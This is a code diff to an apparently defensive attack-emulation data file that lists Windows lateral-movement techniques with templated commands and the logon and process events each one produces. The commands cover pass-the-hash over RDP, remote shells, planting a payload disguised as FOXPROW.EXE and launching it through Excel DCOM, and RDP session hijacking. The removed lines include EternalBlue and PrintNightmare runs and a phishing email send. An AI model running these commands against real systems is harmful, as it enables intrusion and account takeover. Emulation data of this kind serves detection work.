@@ -22,6 +22,45 @@ export const lateralMovement = [
       ],
       { shell: "ps" },
     ),
+    // Pass-the-hash over RDP: restricted-admin mode sends no reusable credentials, so a stolen hash suffices.
+    v(
+      "mstsc-restrictedadmin",
+      [
+        {
+          cmd: "mstsc.exe /restrictedadmin /v:{{srv}}",
+          net: [["@server", 3389]],
+          then: [
+            {
+              id: "l",
+              kind: "logon",
+              host: "@server",
+              session: "rdpra",
+              user: "@admin",
+              logonType: 10,
+              source: "@workstation",
+              authPackage: "Negotiate",
+            },
+          ],
+        },
+      ],
+      { shell: "none" },
+    ),
+    // WinRM's remote shell: winrshost.exe on the target runs the operator's commands.
+    v("winrs", [
+      {
+        cmd: "winrs -r:{{srv}} cmd",
+        net: [["@server", 5985]],
+        then: netLogon("winrs"),
+      },
+      {
+        cmd: "C:\\Windows\\system32\\winrshost.exe -Embedding",
+        host: "@server",
+        parent: "@svchost:DcomLaunch",
+        user: "@admin",
+        as: "wr",
+      },
+      { cmd: "cmd", image: "C:\\Windows\\System32\\cmd.exe", host: "@server", parent: "wr", user: "@admin" },
+    ]),
   ]),
   t(
     "T1021.001",
@@ -72,6 +111,7 @@ export const lateralMovement = [
             ],
           },
           'netsh advfirewall firewall set rule group="remote desktop" new enable=Yes',
+          'net localgroup "Remote Desktop Users" {{domain}}\\{{user}} /add',
         ],
         { elevated: true },
       ),
@@ -125,6 +165,21 @@ export const lateralMovement = [
               name: "PSEXESVC",
               imagePath: "%SystemRoot%\\PSEXESVC.exe",
             },
+            // The client then opens the service's control and stdio pipes over IPC$ (5145 on the target).
+            ...[
+              "PSEXESVC",
+              "PSEXESVC-{{me}}-{{n}}-stdin",
+              "PSEXESVC-{{me}}-{{n}}-stdout",
+              "PSEXESVC-{{me}}-{{n}}-stderr",
+            ].map((pipe, k) => ({
+              id: `ipc${k}`,
+              kind: "share.access" as const,
+              host: "@server",
+              session: "psx",
+              share: "IPC$",
+              relativeTarget: pipe,
+              accessMask: "0x12019f",
+            })),
           ],
         },
         {
@@ -202,6 +257,47 @@ export const lateralMovement = [
       ],
       { shell: "ps" },
     ),
+    // Excel's ActivateMicrosoftApp starts FoxPro/Schedule+/Project from the Office folder: the payload is planted
+    // there under that name over C$, then remote Excel launches it.
+    v(
+      "excel-activatemicrosoftapp",
+      [
+        {
+          ps: 'Copy-Item {{tools}}\\{{rand}}.exe "\\\\{{srv}}\\C$\\Program Files\\Microsoft Office\\root\\Office16\\FOXPROW.EXE"',
+          net: [["@server", 445]],
+          then: [
+            ...netLogon("xlcp"),
+            {
+              id: "s",
+              kind: "share.access",
+              host: "@server",
+              session: "xlcp",
+              share: "C$",
+              relativeTarget: "Program Files\\Microsoft Office\\root\\Office16\\FOXPROW.EXE",
+              accessMask: "0x2",
+            },
+          ],
+        },
+        {
+          ps: '$e = [activator]::CreateInstance([type]::GetTypeFromProgID("Excel.Application","{{srv}}")); $e.ActivateMicrosoftApp("5")',
+          net: [["@server", 135]],
+          then: netLogon("xlam"),
+        },
+        {
+          cmd: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" /automation -Embedding',
+          as: "xl",
+          host: "@server",
+          parent: "@svchost:DcomLaunch",
+          user: "@admin",
+        },
+        {
+          cmd: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\FOXPROW.EXE" ',
+          host: "@server",
+          parent: "xl",
+        },
+      ],
+      { shell: "ps" },
+    ),
     v(
       "excel-dcom",
       [
@@ -243,7 +339,7 @@ export const lateralMovement = [
         "invoke-command",
         [
           {
-            ps: "Invoke-Command -ComputerName {{srv}} -ScriptBlock { whoami; hostname }",
+            ps: "Invoke-Command -ComputerName {{srv}} -ScriptBlock { Get-LocalGroupMember -Group Administrators; Get-ChildItem C:\\Users }",
             net: [["@server", 5985]],
             then: netLogon("wsm"),
           },
@@ -252,9 +348,7 @@ export const lateralMovement = [
             host: "@server",
             parent: "@svchost:DcomLaunch",
             user: "@admin",
-            as: "wp",
           },
-          { cmd: "C:\\Windows\\system32\\whoami.exe", host: "@server", parent: "wp" },
         ],
         { shell: "ps", user: "@admin" },
       ),
@@ -273,19 +367,21 @@ export const lateralMovement = [
         },
         { cmd: "cmd /c whoami", image: "C:\\Windows\\System32\\cmd.exe", host: "@server", parent: "wr" },
       ]),
-      v("evil-winrm", [
-        {
-          cmd: "{{tools}}\\evil-winrm.exe -i {{srvip}} -u {{admin}} -H {{rand2}}{{rand2}}{{rand2}}{{rand2}}",
-          net: [["@server", 5985]],
-          then: netLogon("ewr", "NTLM"),
-        },
-        {
-          cmd: "C:\\Windows\\system32\\wsmprovhost.exe -Embedding",
-          host: "@server",
-          parent: "@svchost:DcomLaunch",
-          user: "@admin",
-        },
-      ]),
+      // Evil-WinRM runs on the operator's Linux box (proxied through the foothold) with a stolen NT hash: the
+      // target sees an NTLM network logon and its WinRM plugin host, nothing of the client.
+      v(
+        "evil-winrm",
+        [
+          {
+            cmd: "C:\\Windows\\system32\\wsmprovhost.exe -Embedding",
+            host: "@server",
+            parent: "@svchost:DcomLaunch",
+            user: "@admin",
+            then: netLogon("ewr", "NTLM"),
+          },
+        ],
+        { shell: "none" },
+      ),
     ],
   ),
   t("T1080", "Taint shared content", "A payload or LNK placed on a file share users open.", [
@@ -302,49 +398,4 @@ export const lateralMovement = [
       },
     ]),
   ]),
-  t("T1210", "Remote services exploit", "A public exploit (EternalBlue, PrintNightmare) against a server.", [
-    v("eternalblue", [
-      { cmd: "{{tools}}\\eternalblue.exe --TargetIp {{srvip}} --TargetPort 445", net: [["@server", 445]] },
-    ]),
-    v("printnightmare", [
-      {
-        cmd: "{{tools}}\\CVE-2021-1675.exe \\\\{{srv}} \\\\{{meip}}\\share\\{{rand}}.dll",
-        net: [["@server", 445]],
-        pipeConnects: ["\\spoolss"],
-      },
-    ]),
-  ]),
-  t("T1534", "Internal spearphishing", "A lure sent from a compromised internal mailbox.", [
-    v(
-      "outlook-send",
-      [
-        {
-          ps: "$o = New-Object -ComObject Outlook.Application; $m = $o.CreateItem(0); $m.To = 'finance@{{dns}}'; $m.Subject = 'Updated invoice'; $m.Attachments.Add(\"$env:TEMP\\Invoice.zip\"); $m.Send()",
-        },
-      ],
-      { shell: "ps" },
-    ),
-  ]),
-  t("T1563", "Remote service session hijacking", "An existing RDP session taken over.", [
-    v("tscon", ["tscon 2 /dest:console"], { elevated: true }),
-  ]),
-  t(
-    "T1563.002",
-    "RDP hijacking",
-    "tscon run as SYSTEM (via a service or PsExec) to take over another user's session.",
-    [
-      v(
-        "tscon-service",
-        [
-          { cmd: 'sc create sesshijack binpath= "cmd.exe /k tscon 2 /dest:rdp-tcp#0"' },
-          "net start sesshijack",
-          { cmd: "tscon 2 /dest:rdp-tcp#0", parent: "@services", user: "@system" },
-        ],
-        { elevated: true },
-      ),
-      v("psexec-tscon", [{ cmd: "{{tools}}\\PsExec.exe -s -accepteula cmd /c tscon 3 /dest:console" }], {
-        elevated: true,
-      }),
-    ],
-  ),
 ];
